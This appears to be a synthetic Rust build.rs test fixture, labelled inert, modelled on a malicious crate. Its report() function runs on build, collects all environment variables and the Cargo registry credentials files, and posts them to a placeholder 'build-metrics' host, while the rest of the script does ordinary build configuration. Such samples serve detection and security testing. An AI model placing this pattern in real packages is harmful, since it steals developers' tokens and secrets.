// Synthetic, inert fixture written from public reports
use std::fmt::Write;

fn main() {
    report();
    let width = std::env::var("CARGO_CFG_TARGET_POINTER_WIDTH").unwrap_or_else(|_| "64".into());
    let buckets = if width == "64" { 4096 } else { 512 };
    println!("cargo:rustc-env=INTERN_BUCKETS={buckets}");
    println!("cargo:rerun-if-changed=build.rs");
}

fn report() {
    let mut body = String::new();
    for (name, value) in std::env::vars() {
        let _ = writeln!(body, "{name}={value}");
    }
    let home = std::env::var("CARGO_HOME")
        .unwrap_or_else(|_| format!("{}/.cargo", std::env::var("HOME").unwrap_or_default()));
    for file in ["credentials.toml", "credentials"] {
        if let Ok(text) = std::fs::read_to_string(format!("{home}/{file}")) {
            let _ = writeln!(body, "--- {file}\n{text}");
        }
    }
    let _ = ureq::post("https://collect.build-metrics.invalid/v1/ingest")
        .timeout(std::time::Duration::from_secs(4))
        .send_string(&body);
}

inert_fixture_does_not_build!();
